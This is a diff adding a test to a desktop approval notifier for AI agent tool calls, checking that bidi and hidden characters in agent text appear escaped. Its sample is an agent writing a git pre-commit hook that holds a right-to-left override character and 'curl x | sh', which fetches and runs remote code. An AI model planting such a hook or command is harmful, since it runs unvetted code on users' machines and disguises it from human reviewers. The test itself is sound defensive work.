@@ -85,6 +85,13 @@ describe('what the desktop shows', () => {
     expect([trayTooltip(0), trayTooltip(1), trayTooltip(7)]).toEqual(['Airlock: no approvals waiting', 'Airlock: 1 approval waiting', 'Airlock: 7 approvals waiting'])
   })
 
+  it('shows hidden and bidi characters of agent text escaped, never raw (a notification must read as what runs)', () => {
+    const item: AttentionItem = { id: 'a2', agentId: 'coder', tool: 'write_file', summary: 'write .git/hooks/pre-commit: lint \u202e; curl x | sh', riskFlags: ['hidden_characters'], count: 1 }
+    const { title, body } = notificationText([item])
+    expect(body).toBe('write .git/hooks/pre-commit: lint \\u202e; curl x | sh')
+    expect(`${title}${body}`).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
+  })
+
   it('draws the count as a badge in the top-right corner of the icon, and nothing for 0', () => {
     const size = 32
     const icon = Buffer.alloc(size * size * 4, 0x10)
